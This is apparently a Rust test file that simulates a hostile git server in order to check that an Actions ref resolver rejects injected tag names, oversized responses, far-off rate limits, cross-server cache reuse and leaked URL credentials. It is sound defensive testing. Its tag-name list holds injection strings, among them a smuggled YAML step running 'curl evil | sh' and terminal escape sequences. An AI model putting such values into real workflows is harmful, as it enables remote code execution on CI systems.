//! A hostile server (issue 17): tag names made to inject YAML or terminal escapes, answers
//! too large to hold, rate limits with far-away dates, failures asked again and again, and
//! refs of one server used for another.

mod common;

use std::time::{Duration, Instant};

use harden_github::{FetchError, RepoId, Resolver, ResolverConfig, ResolverMode};
use harden_testserver::{Fault, RecordedRepo, ServerOptions, TestServer};

use common::{config, id, server};

const A: &str = "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa";
const B: &str = "bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb";

/// Tag names a server could send to inject YAML (YAML 1.1 line breaks, `#`, quotes), reach a
/// terminal (ESC, BEL) or a CI log (`::error`), or look like a version (non-ASCII digits).
pub const HOSTILE_NAMES: &[&str] = &[
    "v1.0.1-a\u{85}      - run: curl evil | sh",
    "v1.0.2\u{2028}- run: x",
    "v1.0.3\u{2029}x",
    "v1.0.4\r- run: x",
    "v1.0.5 # ok",
    "v1.0.6\u{1b}[31mred",
    "v1.0.7\u{7}",
    "v1.0.8\n::error ::owned",
    "v1.0.9'\"",
    "v１.0.10",
    "-v1.0.11",
];

fn hostile_repo(v0: bool) -> (TestServer, ResolverConfig) {
    let mut repo = RecordedRepo::new("evil/action")
        .with_tag("v1", A)
        .with_tag("v1.0.0", A)
        .with_branch("main", B)
        .with_branch("x\u{1b}]0;title\u{7}", B);
    for name in HOSTILE_NAMES {
        repo = repo.with_tag(name, A);
    }
    let options = if v0 {
        ServerOptions::default().without_v2()
    } else {
        ServerOptions::default()
    };
    let server = TestServer::start_with_repos([repo], options, 0).expect("server");
    let config = config(&server);
    (server, config)
}

#[test]
fn tags_with_unsafe_names_never_become_version_comments() {
    // Issue 17 point 1, over protocol v2, the v0 fallback and the REST resolver.
    for (v0, mode) in [
        (false, ResolverMode::Git),
        (true, ResolverMode::Git),
        (false, ResolverMode::Api),
    ] {
        let (_server, config) = hostile_repo(v0);
        let resolver = Resolver::new(ResolverConfig { mode, ..config }).expect("resolver");
        let repo = id("evil/action");
        let refs = resolver.fetch(&repo).expect("fetched");
        let resolved = refs.resolve("v1").expect("v1");
        assert_eq!(resolved.sha, A);
        // `refs/tags/v1.0.5 # ok` reads, over protocol v2, as tag `v1.0.5` with an unknown
        // attribute: a lie any server can tell, but a safe name.
        let comment = resolved.comment.clone().unwrap_or_default();
        assert!(
            ["v1.0.0", "v1.0.5"].contains(&comment.as_str()),
            "{mode:?} v0={v0}: {comment:?}"
        );
        assert!(refs.tags.keys().all(|t| harden_github::is_safe_ref_name(t)));
        assert!(!refs.branches.keys().any(|b| b.contains('\u{1b}')));
        let refused = resolver.refused_ref_names(&repo);
        // Names with a line feed cannot travel in a pkt-line or an advertisement line.
        assert!(
            refused.len() >= HOSTILE_NAMES.len() - 2,
            "{mode:?} v0={v0}: {refused:?}"
        );
        let version = refs.version_for_commit(A, None).unwrap_or_default();
        assert!(harden_github::is_safe_ref_name(&version), "{version:?}");
    }
}

#[test]
fn huge_answers_are_refused_without_holding_them() {
    // Issue 17 point 7: a 1 GiB answer cost 2 GB of memory. 64 MiB here, announced or not.
    for announced in [true, false] {
        let server = server(&["actions/checkout"], ServerOptions::default());
        server.set_fault(
            "actions/checkout",
            Fault::HugeBody {
                bytes: 64 * 1024 * 1024,
                announced,
            },
        );
        let started = Instant::now();
        let err = Resolver::new(config(&server))
            .expect("resolver")
            .fetch(&id("actions/checkout"))
            .expect_err("too large");
        assert!(matches!(err, FetchError::BodyTooLarge { .. }), "{err}");
        assert!(err.to_string().contains("larger than 8 MiB"), "{err}");
        assert!(started.elapsed() < Duration::from_secs(20));
    }
}

#[test]
fn retry_after_as_a_far_http_date_gives_up_at_once() {
    // Issue 17 point 13: an HTTP date was not parsed, and 60 s were slept each time.
    let server = server(&["actions/checkout"], ServerOptions::default());
    server.set_fault(
        "actions/checkout",
        Fault::RateLimitedUntil {
            status: 429,
            after_secs: 3600,
        },
    );
    let started = Instant::now();
    let err = Resolver::new(config(&server))
        .expect("resolver")
        .fetch(&id("actions/checkout"))
        .expect_err("rate limited");
    let FetchError::RateLimited {
        retry_after: Some(wait),
    } = err
    else {
        panic!("{err:?}");
    };
    assert!((3590..=3601).contains(&wait.as_secs()), "{wait:?}");
    assert!(started.elapsed() < Duration::from_secs(5));
    assert_eq!(server.request_count(), 1);
}

#[test]
fn retry_after_as_a_near_http_date_is_waited_out() {
    let server = server(&["actions/checkout"], ServerOptions::default());
    server.set_fault_rule(
        "actions/checkout",
        harden_testserver::FaultRule::new(Fault::RateLimitedUntil {
            status: 403,
            after_secs: 1,
        })
        .times(1),
    );
    let config = ResolverConfig {
        max_rate_limit_wait: Duration::from_secs(5),
        ..config(&server)
    };
    let resolver = Resolver::new(config).expect("resolver");
    resolver.fetch(&id("actions/checkout")).expect("waited out");
    assert_eq!(resolver.stats().rate_limit_waits, 1);
}

#[test]
fn every_failure_is_asked_once_per_run() {
    // Issue 17 point 13: failures other than "not found" were retried once per root.
    let server = server(&["actions/checkout"], ServerOptions::default());
    server.set_fault("actions/checkout", Fault::Status(500));
    let resolver = Resolver::new(config(&server)).expect("resolver");
    let first = resolver.fetch(&id("actions/checkout")).expect_err("500");
    let requests = server.request_count();
    for _ in 0..4 {
        assert_eq!(resolver.fetch(&id("actions/checkout")), Err(first.clone()));
    }
    assert_eq!(server.request_count(), requests, "no new request");
}

#[test]
fn the_cache_of_one_server_is_never_used_for_another() {
    // Issue 17 point 6: refs from a GHES, a test server or a tampered answer were used for
    // github.com for an hour, and forever with --offline.
    let dir = tempfile::tempdir().expect("tempdir");
    let tampered = RecordedRepo::new("actions/checkout").with_tag("v4", A);
    let evil =
        TestServer::start_with_repos([tampered], ServerOptions::default(), 0).expect("server");
    let cached = |server: &TestServer| ResolverConfig {
        cache_dir: Some(dir.path().to_path_buf()),
        ..config(server)
    };
    let first = Resolver::new(cached(&evil)).expect("resolver");
    first.fetch(&id("actions/checkout")).expect("fetched");
    let path = first.cache_path(&id("actions/checkout")).expect("cache");
    let text = std::fs::read_to_string(&path).expect("cache entry");
    assert!(
        text.contains(&format!("\"server\":\"git {}", evil.url())),
        "{text}"
    );

    let honest = server(&["actions/checkout"], ServerOptions::default());
    let offline = Resolver::new(ResolverConfig {
        offline: true,
        ..cached(&honest)
    })
    .expect("resolver");
    assert_eq!(
        offline.fetch(&id("actions/checkout")),
        Err(FetchError::NotCached),
        "the other server's entry is not used"
    );
    let online = Resolver::new(cached(&honest)).expect("resolver");
    let refs = online.fetch(&id("actions/checkout")).expect("fetched");
    assert_ne!(refs.tags.get("v4").map(|t| t.commit.as_str()), Some(A));
    assert_eq!(honest.request_count(), 1);
    // The API resolver of the same server has its own entries too.
    let api = Resolver::new(ResolverConfig {
        mode: ResolverMode::Api,
        offline: true,
        ..cached(&honest)
    })
    .expect("resolver");
    assert_eq!(
        api.fetch(&RepoId::new("actions", "checkout")),
        Err(FetchError::NotCached)
    );
}

#[test]
fn credentials_in_server_urls_are_never_printed() {
    // Issue 17 point 11.
    for var in ["server_url", "api_url"] {
        let mut config = ResolverConfig::default();
        let url = "http://user:ghp_secret@ghes.example".to_string();
        if var == "server_url" {
            config.server_url = url;
        } else {
            config.api_url = url;
        }
        let message = Resolver::new(config).expect_err("refused").to_string();
        assert!(!message.contains("ghp_secret"), "{message}");
        assert!(!message.contains("user"), "{message}");
    }
    let text = harden_github::redact_userinfo("redirect to https://u:p@evil.example/x");
    assert_eq!(text, "redirect to https://***@evil.example/x");
}
